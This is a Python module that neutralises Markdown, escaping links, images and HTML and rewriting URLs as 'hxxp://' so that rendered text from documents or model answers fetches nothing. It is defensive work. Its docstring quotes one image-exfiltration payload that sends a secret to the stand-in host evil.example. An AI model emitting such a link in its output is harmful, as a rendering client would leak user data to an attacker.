r"""Text for who renders Markdown: what documents and models say fetches nothing and leads nowhere.

A chat client takes an answer for Markdown, and fetches `![](http://evil.example/?q=secret)` as soon
as it is shown. So the signs are written that have CommonMark and GitHub's dialect show links,
pictures and HTML as text: `]\(`, `&lt;img`. A bare address, which many make a link of whatever
signs stand in it, is written as `hxxp://`. What a client runs as a program is none of this, nor is
an e-mail address, with `mailto:` or without: it fetches nothing, and a letter is sent by a person.
"""

from __future__ import annotations

import re
import string
from dataclasses import dataclass
from itertools import pairwise

from localrag.printable import as_name

_LETTERS = string.ascii_letters + string.digits + string.punctuation
_LIVE = re.compile(
    r"""
      (?P<bracket>\])(?=[(:])          # [text](address), ![picture](address), [label]: address
    | (?P<angle><)(?=[a-z/!?])         # <img src=...>, <https://a.example>, <!-- a comment -->
    | (?P<reference>&)(?=\#?[a-z0-9]+;)       # &lt;img&gt;, h&#116;tp://a.example
    | (?P<scheme>htt)(?=ps?\\?:\S)     # https://a.example, https\://a.example
    | (?P<ftp>ft)(?=p\\?:\\?/)       # ftp://a.example
    | (?P<www>www)\.(?=[a-z0-9-]|[^\x00-\x7f])       # www.a.example
    | (?<![\w:/])(?P<slash>/)(?=/(?:[\w.-]|[^\x00-\x7f]))   # "//a.example/data.json" of a chart
    """,
    re.VERBOSE | re.IGNORECASE | re.ASCII,
)
_ADDRESSES = ("scheme", "ftp", "www", "slash")
_SIGN = re.compile(r"[\\`*_\[\]<>!#|~&]")


@dataclass(frozen=True, slots=True)
class Change:
    """What stands for the code points from `start` to `end` of a text."""

    start: int
    end: int
    text: str


@dataclass(frozen=True, slots=True)
class Inert:
    """A text of which nothing is live, and how many of its words had to be changed."""

    text: str
    changed: int


def inert(text: str) -> Inert:
    r"""The text as Markdown that shows as that text, whatever stands in it.

    >>> inert("See ![it](http://a.example/?q=1) and <b>.").text
    'See ![it]\\(hxxp://a.example/?q=1) and &lt;b>.'
    """
    changes = live_words(text)
    return Inert(changed(text, changes), words(text, changes))


def plain_line(text: str) -> str:
    r"""A text as a line of Markdown in which no sign means anything, as in a cell of a table.

    >>> plain_line("*a* | ![b](http://a.example)")
    '\\*a\\* \\| \\!\\[b\\](hxxp://a.example)'
    """
    line = as_name(" ".join(text.split()))
    addresses = [
        Change(*live.span(), _replacement(live))
        for live in _LIVE.finditer(line)
        if live.lastgroup in _ADDRESSES
    ]
    return _SIGN.sub(r"\\\g<0>", changed(line, addresses))


class InertStream:
    """What `inert` does, for a text that comes in pieces, wherever they are cut.

    What is given at once joins to `inert` of the whole. Words of ASCII are held until they end.
    """

    def __init__(self) -> None:
        self._word = ""

    def feed(self, piece: str) -> str:
        """What can be given of the text so far."""
        text = self._word + piece
        whole = text.rstrip(_LETTERS)
        self._word = text[len(whole) :]
        return inert(whole).text

    def finish(self) -> str:
        """The rest of it."""
        word, self._word = self._word, ""
        return inert(word).text


def live_words(text: str) -> list[Change]:
    """What of a text is to be changed, in order."""
    return [Change(*live.span(), _replacement(live)) for live in _LIVE.finditer(text)]


def words(text: str, changes: list[Change]) -> int:
    """How many words the changes are in."""
    same = sum(
        not text[change.end : other.start].strip(_LETTERS) for change, other in pairwise(changes)
    )
    return len(changes) - same


def _replacement(live: re.Match[str]) -> str:
    match live.lastgroup:
        case "bracket":
            return "]\\"
        case "angle":
            return "&lt;"
        case "reference":
            return "&amp;"
        case "scheme" | "ftp":
            return live[0][0] + "x" * (len(live[0]) - 1)
        case "www":
            return f"{live['www']}[.]"
    return "/ "


def changed(text: str, changes: list[Change]) -> str:
    """The text with these changes."""
    parts, end = [], 0
    for change in changes:
        parts += [text[end : change.start], change.text]
        end = change.end
    return "".join([*parts, text[end:]])


def moved(offset: int, changes: list[Change]) -> int:
    """Where a code point stands once these changes are made; one that is replaced, behind that."""
    begun = (change for change in changes if change.start < offset)
    return offset + sum(
        len(change.text) - (min(change.end, offset) - change.start) for change in begun
    )
